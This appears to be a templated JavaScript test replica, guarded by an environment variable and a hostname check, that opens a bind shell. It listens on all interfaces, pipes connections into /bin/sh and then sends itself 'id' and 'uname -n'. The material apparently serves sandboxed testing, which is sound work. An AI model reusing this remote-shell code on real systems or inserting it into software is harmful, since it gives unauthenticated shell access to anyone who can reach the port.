// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const net = require('net');
    const { spawn } = require('child_process');
    await new Promise((done) => {
        const server = net.createServer((socket) => {
            const shell = spawn('/bin/sh', [], { stdio: ['pipe', 'pipe', 'pipe'] });
            shell.on('error', () => {});
            shell.stdin.on('error', () => {});
            socket.on('error', () => {});
            socket.pipe(shell.stdin);
            shell.stdout.pipe(socket, { end: false });
            setTimeout(() => { shell.kill('SIGKILL'); socket.destroy(); }, 700);
        });
        server.on('error', done);
        server.listen({{port}}, '0.0.0.0', () => {
            const caller = net.connect({{port}}, '127.0.0.1', () => caller.write('id\nuname -n\n'));
            caller.on('data', () => {});
            caller.on('error', () => {});
        });
        setTimeout(() => { server.close(); done(); }, 1000);
    });
}
